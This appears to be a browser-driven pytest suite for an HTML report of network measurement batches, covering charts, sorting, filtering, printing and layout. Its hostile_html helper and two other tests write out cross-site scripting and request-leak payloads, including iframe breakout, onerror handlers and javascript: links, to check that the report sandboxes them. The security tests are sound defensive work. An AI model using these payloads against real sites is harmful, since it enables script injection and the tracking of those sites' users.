"""The report as a page, in a real browser; where there is none, these tests are skipped."""

from __future__ import annotations

import base64
from contextlib import closing

import pytest

from pscheduler_batch.report.document_rows import report_of
from pscheduler_batch.report.html_report import HtmlReport
from tests.support.browser import Trap, open_browser
from tests.support.commands import job as batch_job
from tests.support.commands import run_batch, task
from tests.support.output_documents import HOSTILE, RTT, broken, failed_run, job, judged, kept, output, result, run

RUNS = 'tbody th[scope="row"]'


@pytest.fixture(scope="module")
def _browser(tmp_path_factory):
    with open_browser(tmp_path_factory.mktemp("browser")) as browser:
        yield browser


@pytest.fixture
def browser(_browser):
    """A browser in which scripts run."""
    _browser.command("Emulation.setScriptExecutionDisabled", value=False)
    return _browser


@pytest.fixture
def page_of(tmp_path):
    """Write the page of a document to a file."""

    def write(document):
        page = tmp_path / "report.html"
        page.write_text(HtmlReport().render(report_of(document)), encoding="utf-8")
        return page

    return write


def measured(milliseconds, **spec):
    """Make an iteration of rtt with such a mean."""
    return result(run({**RTT, "mean": f"PT{milliseconds / 1000}S"}), **spec)


SWEEP = output(job(measured(0.6, length=512), measured(0.4, length=64), result(failed_run("no route"), length=128)))


def started(second):
    """Make an iteration that should have started at noon."""
    times = {"start_time": f"2026-03-01T12:00:{second:06.3f}Z", "end_time": "2026-03-01T12:00:09Z"}
    made = result(run(RTT, **times))
    made["task"]["schedule"]["start"] = "2026-03-01T12:00:00Z"
    return made


def test_the_report_of_a_real_batch(browser, page_of, pscheduler, there):
    """A batch that really ran, opened as a file: nothing in the console, and the plots have the measured points."""
    sweep = batch_job(
        "sweep",
        iterations=3,
        task=task("rtt", dest="127.0.0.1", count=1, interval="PT0.1S", timeout="PT0.5S"),
        task_transform={"script": ".test.spec.length = 100 * ($iteration + 1)"},
    )
    document = run_batch(*there, batch={"jobs": [sweep]}).document
    browser.show(page_of(document))
    mean = [round(row.metrics["rtt-mean"] * 1000, 9) for row in report_of(document).rows]
    (over_length,) = (
        plot for plot in map(browser.chart, range(3)) if isinstance(plot[0]["data"][0], dict) and len(plot) == 4
    )

    assert browser.find("h1").text.endswith("All 3 runs succeeded")
    assert over_length[1] == {"label": "Mean", "data": [{"x": 100 * n, "y": y} for n, y in enumerate(mean, 1)]}
    assert browser.complaints() == []


def test_plots_have_their_points(browser, page_of):
    """Over the iterations, where a failed run is a gap, and over the length that varied, in its order."""
    browser.show(page_of(SWEEP))
    over_iterations, over_length = browser.chart(1), browser.chart(2)

    assert over_iterations[1] == {"label": "Mean", "data": [0.6, 0.4, None]}
    assert over_length[1]["data"] == [{"x": 64, "y": 0.4}, {"x": 128, "y": None}, {"x": 512, "y": 0.6}]
    assert browser.complaints() == []


def test_the_time_line_shows_the_skew(browser, page_of):
    """Each bar begins where its run did, right of the mark of the planned start, in the same lane."""
    browser.show(page_of(output(job(started(0.5), started(2.25), parallel=True))))
    bars, planned = browser.chart(0)
    drawn = browser.run(
        "const chart = Chart.getChart(document.querySelector('canvas')), {x} = chart.scales;"
        "const [bars, planned] = [0, 1].map(n => chart.getDatasetMeta(n).data);"
        "const seconds = pixel => Math.round(x.getValueForPixel(pixel) * 1000) / 1000;"
        "return bars.map((bar, n) => [seconds(bar.base), seconds(bar.x), seconds(planned[n].x), bar.y - planned[n].y])"
    )

    assert [point["x"] for point in bars["data"]] == [[0.5, 9], [2.25, 9]]
    assert [point["x"] for point in planned["data"]] == [0, 0]
    assert drawn == [[0.5, 9, 0, 0], [2.25, 9, 0, 0]]
    assert "500 ms to 2.25 s after the planned start" in browser.find("main").text
    assert browser.complaints() == []


@pytest.mark.parametrize("character", ["x", "\u6e2c", "\U0001f600"])
def test_long_labels_of_a_time_line_fit_on_a_phone(browser, page_of, character):
    """They are cut where they would have no room, and never in the middle of a character."""
    label = character * 100
    browser.show(page_of(output(job(result(run()), label=label), job(result(run()), label=label))), width=390)
    browser.chart(0)
    shown, widths, room = browser.run(
        "const {ctx, scales: {y}} = Chart.getChart(document.querySelector('canvas'));"
        "ctx.font = `${Chart.defaults.font.size}px ${Chart.defaults.font.family}`;"
        "const shown = y.ticks.map(tick => tick.label);"
        "return [shown, shown.map(label => ctx.measureText(label).width), y.width]"
    )
    title = 24  # pixels, of the scale itself

    assert set(shown[0]) == {character, "\u2026"}
    assert len(shown[0]) > 5
    assert shown == shown[:1] * 2
    assert max(widths) < room - title


def test_runs_can_be_seen_in_a_time_line_of_many(browser, page_of):
    """Though a lane is a fraction of a pixel."""
    browser.show(page_of(output(job(*(result(run()) for _ in range(1000))))))
    browser.chart(0)

    assert browser.run("return Chart.getChart(document.querySelector('canvas')).getDatasetMeta(0).data[0].height") >= 2


def test_no_two_marks_of_a_scale_look_the_same(browser, page_of):
    """Not even where all numbers are nearly the same."""
    rates = [{"succeeded": True, "summary": {"summary": {"throughput-bits": 9.41e9 + 1e5 * n}}} for n in range(3)]
    runs = [result(run(rate), kind="throughput", **{"window-size": 1_234_500 + n}) for n, rate in enumerate(rates)]
    browser.show(page_of(output(job(*runs))))
    browser.chart(2)
    marks = browser.run(
        "const {x, y} = Chart.getChart(document.querySelectorAll('canvas')[2]).scales;"
        "return [x, y].map(scale => scale.ticks.map(tick => tick.label))"
    )

    assert [len(set(each)) for each in marks] == [len(each) for each in marks]
    assert "1,234,502" in marks[0]
    assert all(mark.endswith(" Gb/s") for mark in marks[1])


def test_sorting(browser, page_of):
    """A heading sorts by its column, again the other way round; what has no value comes last."""
    browser.show(page_of(SWEEP))
    mean = next(each for each in browser.driver.find_elements("css selector", "thead th") if "Mean" in each.text)
    orders = []
    for _ in range(2):
        mean.find_element("css selector", "button").click()
        orders.append((mean.get_attribute("aria-sort"), browser.texts(RUNS)))

    assert orders == [("ascending", ["1", "0", "2"]), ("descending", ["0", "1", "2"])]


def test_filtering(browser, page_of):
    """By words of a row, and by how it went."""
    browser.show(page_of(SWEEP))
    words, state = browser.find("#filter-text"), browser.find("#filter-state")
    words.send_keys("NO route")
    by_words = (browser.texts(RUNS), browser.find("#filter-count").text)
    words.clear()
    words.send_keys(" ")
    state.send_keys("succeeded")
    by_state = browser.texts(RUNS)
    words.send_keys("nowhere")

    assert by_words == (["2"], "1 of 3 runs")
    assert by_state == ["0", "1"]
    assert browser.texts(".nothing") == ["No run of this job matches the filter."]


def test_of_a_job_without_the_runs_that_are_looked_for_only_its_name_stays(browser, page_of):
    """So that what was found is not between the plots of all other jobs, which come back as they were."""
    browser.show(page_of(output(job(measured(0.4), measured(0.5), label="good"), SWEEP["jobs"][0])))
    width = "return document.querySelector('#job-0 canvas').getBoundingClientRect().width"
    seen = "#job-0 :is(.facts, canvas, table)"
    words = browser.find("#filter-text")
    before = (browser.chart(1), browser.run(width), len(browser.texts(seen)))
    words.send_keys("no route")
    hidden = (browser.texts("h2 bdi"), browser.texts(seen), browser.texts("#job-0 .nothing"))
    words.clear()
    words.send_keys(" ")
    browser.wait_for(f"return (() => {{{width}}})() === arguments[0]", before[1])

    assert hidden == (["good", "rtt"], [], ["No run of this job matches the filter."])
    assert (browser.chart(1), browser.run(width), len(browser.texts(seen))) == before


def test_a_run_opens_by_keyboard(browser, page_of):
    """Its text is seen, and its HTML as the server made it, in a frame made when it is opened."""
    browser.show(page_of(SWEEP))
    before = browser.texts("pre, iframe")
    button = browser.find(f"{RUNS} button")
    button.send_keys("\ue007")  # the enter key
    browser.driver.switch_to.frame(browser.find("iframe"))
    shown = browser.find("p").text
    browser.driver.switch_to.default_content()

    assert before == []
    assert button.get_attribute("aria-expanded") == "true"
    assert browser.texts("#run-0-0-0 pre") == ["plain"]
    assert shown == "html"
    assert browser.complaints() == []


def test_a_link_opens_a_failed_run(browser, page_of):
    """From the list at the top, and from elsewhere by its address."""
    browser.show(page_of(SWEEP))
    browser.find('a[href="#run-0-2-0"]').click()
    clicked = browser.wait_for("return document.querySelector('#run-0-2-0 details').checkVisibility()")
    browser.show(page_of(SWEEP), "#run-0-1-0")

    assert clicked
    assert browser.run("return document.querySelector('#run-0-1-0 details').checkVisibility()")


def hostile_html(address):
    """Write what an attacker may send who wants to run something, or to learn that it was read."""
    url = f"http://{address}"
    return f"""</iframe></script><script>top.document.title = "caught"</script><script src="{url}/a"></script>
        <img src="{url}/b" onerror="top.document.title = 'caught'"><svg onload="alert(1)"></svg>
        <link rel="preconnect" href="{url}"><link rel="dns-prefetch" href="{url}"><link rel="stylesheet" href="{url}/c">
        <meta http-equiv="refresh" content="0;url={url}/d"><base href="{url}/"><iframe src="{url}/e"></iframe>
        <object data="{url}/f"></object><embed src="{url}/g"><video src="{url}/h" autoplay></video>
        <style>@import "{url}/i"; body {{ background: url({url}/j) }}</style><p style="background: url({url}/k)">p</p>
        <form id="form" action="{url}/l"><button id="send">send</button></form>
        <a id="script" href="javascript:top.document.title = 'caught'">a</a>
        <a id="away" href="{url}/m" ping="{url}/n" target="_top">b</a><a id="inside" href="{url}/o">c</a>"""


def test_html_of_servers_is_harmless(browser, page_of):
    """It runs nothing and sends no requests, not even when its links and buttons are used."""
    with closing(Trap()) as trap:
        evil = run()
        evil["text/html"] = hostile_html(trap.address)
        browser.show(page_of(output(job(result(evil)))))
        title, address = browser.driver.title, browser.driver.current_url
        for link in ("send", "script", "away", "inside"):
            browser.driver.execute_async_script(
                "const done = arguments[0]; const place = document.querySelector('.page'); place.replaceChildren();"
                "const button = document.querySelector('tbody th button');"
                "if (button.ariaExpanded === 'true') button.click(); button.click();"
                "place.querySelector('iframe').addEventListener('load', done)"
            )
            browser.driver.switch_to.frame(browser.find("iframe"))
            browser.find(f"#{link}").click()
            browser.driver.switch_to.default_content()
        sandbox = browser.find("iframe").get_attribute("sandbox")
        after = (browser.driver.title, browser.driver.current_url, len(browser.driver.window_handles))
        browser.driver.get("about:blank")

        assert (sandbox, after) == ("", (title, address, 1))
        # What was on its way may still arrive.
        assert not trap.visited(0.5)


def test_a_page_without_a_policy_would_be_caught(browser, tmp_path):
    """The test above sees a page that asks for a picture."""
    page = tmp_path / "careless.html"
    with closing(Trap()) as trap:
        script = f"addEventListener('load', () => {{ new Image().src = 'http://{trap.address}/' }})"
        page.write_text(f"<!doctype html><script>{script}</script>", encoding="utf-8")
        browser.show(page)

        assert trap.visited(10)


def test_hostile_words_are_harmless(browser, page_of):
    """As label, state, reason, text and result: the page stays as it is, and as wide."""
    words = HOSTILE.replace("\ud800", "") + '"><img src=x onerror="document.title = 1">'
    evil = {**run({"succeeded": False, "error": words}, state=words), "text/plain": words}
    browser.show(page_of(output(job(result(evil), result(run()), label=words))), "#run-0-0-0", width=360)

    assert browser.driver.title.startswith("1 of 2 runs failed")
    assert browser.run("return document.querySelectorAll('img, b').length") == 0
    assert browser.run("return document.documentElement.scrollWidth") <= 360
    assert browser.complaints() == []


@pytest.mark.parametrize("width", [360, 1280])
def test_expectations_fit_the_window(browser, page_of, width):
    """However long and hostile they are; the headings of the runs below still sort."""
    words = HOSTILE.replace("\ud800", "") + '"><img src=x onerror="document.title = 1">'
    document = judged(kept(), broken(words, job=words, found=words))
    browser.show(page_of(document), width=width)
    browser.driver.find_element("css selector", ".job thead button").click()

    assert browser.driver.title.startswith("The run succeeded, 1 of 2 expectations not met")
    assert browser.texts(".judged .state") == ["✗ not met", "✓ met"]
    assert browser.run("return document.querySelectorAll('img, b, .judged button').length") == 0
    assert browser.run("return document.documentElement.scrollWidth") <= width
    assert browser.complaints() == []


@pytest.mark.parametrize("width", [360, 1280])
def test_no_page_is_wider_than_its_window(browser, page_of, width):
    """A wide table scrolls by itself, and on a phone each run is a card."""
    browser.show(page_of(SWEEP), "#run-0-0-0", width=width)

    assert browser.run("return document.documentElement.scrollWidth") <= width


def test_what_belongs_to_a_run_is_no_wider_than_what_is_seen_of_its_table(browser, page_of):
    """Nobody has to scroll a table to read a reason or a result, however long its cells are."""
    long = {"dest": "d" * 200, "source": "s" * 200, "note": "n" * 200}
    evil = {**failed_run("x" * 1000), "text/plain": "x" * 1000}
    browser.show(page_of(output(job(result(evil, **long), result(run()), label="wide"))), "#run-0-0-0")
    right, inner, *edges = browser.run(
        "const table = document.querySelector('.scroll');"
        "const places = ['.state', '.because bdi', '.more details', '.more pre', '.more iframe'];"
        "return [table.getBoundingClientRect().right, table.scrollWidth - table.clientWidth,"
        "...places.map(place => document.querySelector(`#run-0-0-0 ${place}`).getBoundingClientRect().right)]"
    )

    assert inner > 0
    assert max(edges) <= right


def test_the_hint_of_the_filter_can_be_read(browser, page_of):
    """All of it."""
    browser.show(page_of(SWEEP))

    assert browser.run(
        "const filter = document.querySelector('#filter-text'); filter.value = filter.placeholder;"
        "return filter.scrollWidth <= filter.clientWidth"
    )


def test_dark_and_light(browser, page_of):
    """The page and its plots follow what the reader has chosen, at once when that changes."""
    colours = (
        "const chart = Chart.getChart(document.querySelector('canvas'));"
        "return chart && [getComputedStyle(document.body).backgroundColor, chart.options.scales.x.ticks.color]"
    )
    page = page_of(SWEEP)
    browser.show(page, dark=True)
    dark = browser.wait_for(colours)
    browser.command("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": "light"}])
    light = browser.wait_for(f"const now = (() => {{{colours}}})(); return now[1] !== arguments[0] && now", dark[1])

    assert dark[0] == "rgb(15, 20, 26)"
    assert light[0] == "rgb(244, 246, 248)"


def test_printing(browser, page_of):
    """It becomes a PDF; on paper everything is light, and afterwards the page is as it was."""
    browser.show(page_of(SWEEP), dark=True)
    browser.run(
        "addEventListener('beforeprint', () => { window.printed = [...document.querySelectorAll('canvas')]"
        ".map(canvas => Chart.getChart(canvas).options.scales.x.ticks.color) })"
    )
    pdf = base64.b64decode(browser.command("Page.printToPDF")["data"])

    assert pdf.startswith(b"%PDF-")
    assert set(browser.run("return window.printed")) == {"#566272"}
    assert browser.wait_for("return !('printing' in document.documentElement.dataset)")


def test_a_heading_on_paper_is_text(browser, page_of):
    """Where a table goes on on the next page, browsers repeat its headings without the buttons in them."""
    browser.show(page_of(SWEEP))
    browser.command("Emulation.setEmulatedMedia", media="print")
    shown = browser.run(
        "return [...document.querySelectorAll('thead th *')].map(inside => getComputedStyle(inside).display)"
    )
    browser.command("Emulation.setEmulatedMedia", media="")

    assert set(shown) == {"contents"}


def test_without_scripts_everything_can_be_read(browser, page_of):
    """The tables are there, and each run opens by itself."""
    page = page_of(SWEEP)
    browser.command("Emulation.setScriptExecutionDisabled", value=True)
    browser.show(page)
    browser.find("#run-0-1-0 summary").click()

    assert browser.find("#run-0-1-0 pre").text == "plain"
    assert browser.find("#run-0-2-0 .because").text == "no route"
    assert not browser.find("#tools").is_displayed()


def test_a_long_table_is_shown_in_parts(browser, page_of):
    """The first rows in the order that was chosen; more when asked for, and all of them are searched."""
    browser.show(page_of(output(job(*(measured(1, count=n) for n in range(1, 602))))))
    first = len(browser.texts(RUNS))
    browser.run("document.querySelector('.rest button').click()")
    second = len(browser.texts(RUNS))
    browser.run("document.querySelector('thead th button').click()")
    backwards = browser.texts(RUNS)
    browser.find("#filter-text").send_keys("601")

    assert (first, second, len(backwards), backwards[0]) == (500, 601, 500, "600")
    assert browser.texts(RUNS) == ["600"]
    assert browser.complaints() == []
